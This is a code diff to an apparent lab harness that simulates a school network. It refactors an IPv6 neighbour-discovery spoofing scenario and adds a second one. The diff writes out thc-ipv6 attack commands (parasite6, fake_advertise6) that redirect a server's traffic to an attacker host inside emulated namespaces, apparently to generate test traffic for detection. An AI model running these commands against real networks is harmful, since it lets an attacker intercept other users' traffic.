@@ -596,25 +596,19 @@ def rogue_ra(lan: SchoolLan, small: bool = False) -> Outcome:
     )
 
 
-def nd_spoof(lan: SchoolLan, small: bool = False) -> Outcome:
-    """parasite6 on the attacker answers every neighbour solicitation with its own MAC
-    while student 1 and the server ping each other over IPv6 (their neighbour caches
-    flushed every few seconds, so that they ask again, as after an idle spell)."""
+def _nd_traffic(lan: SchoolLan, name: str, seconds: int, *cmd: str) -> None:
+    """Run an ND spoofing tool on the attacker while student 1 and the server ping each
+    other over IPv6, their neighbour caches flushed every 3 s (so that they ask again,
+    as after an idle spell)."""
     a, victim, srv = lan.attacker, lan.students[0], lan.srv
     lan.ipv6(a, ATTACKER6)
     lan.ipv6(victim, STUDENT6)
     lan.ipv6(srv, SERVER6)
-    seconds = 15
-    args = ["-l", IF]
     procs = []
     try:
         time.sleep(2)
         lan.attack_started = time.monotonic()
-        procs.append(
-            lan.start(
-                a.ns, "parasite6", "timeout", "-s", "INT", str(seconds), "atk6-parasite6", *args
-            )
-        )
+        procs.append(lan.start(a.ns, name, "timeout", "-s", "INT", str(seconds), *cmd))
         time.sleep(1)
         for host, peer in ((victim, SERVER6), (srv, STUDENT6)):
             count = str(seconds)
@@ -630,6 +624,12 @@ def nd_spoof(lan: SchoolLan, small: bool = False) -> Outcome:
         lan.ipv6(srv, None)
         lan.ipv6(victim, None)
         lan.ipv6(a, None)
+
+
+def nd_spoof(lan: SchoolLan, small: bool = False) -> Outcome:
+    """parasite6 answers every neighbour solicitation with the attacker's MAC."""
+    seconds, args = 15, ["-l", IF]
+    _nd_traffic(lan, "parasite6", seconds, "atk6-parasite6", *args)
     return Outcome(
         "nd_spoof",
         ("nd_spoof",),
@@ -638,7 +638,25 @@ def nd_spoof(lan: SchoolLan, small: bool = False) -> Outcome:
         "flag) answering every solicitation, resent every 5 s, while student 1 "
         f"({STUDENT6}) and the server ({SERVER6}) ping each other, their neighbour "
         "caches flushed every 3 s",
-        a,
+        lan.attacker,
+        "thc-ipv6",
+        notes={"attacker_ip6": ATTACKER6},
+    )
+
+
+def nd_advertise(lan: SchoolLan, small: bool = False) -> Outcome:
+    """fake_advertise6 claims the server's address for the attacker, unsolicited."""
+    seconds, args = 15, ["-w", "1", "-n", "14", IF, SERVER6]
+    _nd_traffic(lan, "fake_advertise6", seconds, "atk6-fake_advertise6", *args)
+    return Outcome(
+        "nd_advertise",
+        ("nd_spoof",),
+        f"timeout -s INT {seconds} atk6-fake_advertise6 " + " ".join(args),
+        "thc-ipv6 fake_advertise6: an unsolicited neighbour advertisement a second to all "
+        f"nodes (override flag) claiming the server's {SERVER6} for the attacker's MAC, "
+        f"while student 1 ({STUDENT6}) and the server ping each other, their neighbour "
+        "caches flushed every 3 s",
+        lan.attacker,
         "thc-ipv6",
         notes={"attacker_ip6": ATTACKER6},
     )
@@ -764,5 +782,6 @@ SCENARIOS = {
         Scenario("rogue_ra", ("atk6-fake_router6", "ping"), rogue_ra),
         Scenario("nd_spoof", ("atk6-parasite6", "ping"), nd_spoof),
         Scenario("sweep_and_scan", ("nmap",), sweep_and_scan),
+        Scenario("nd_advertise", ("atk6-fake_advertise6", "ping"), nd_advertise),
     ]
 }
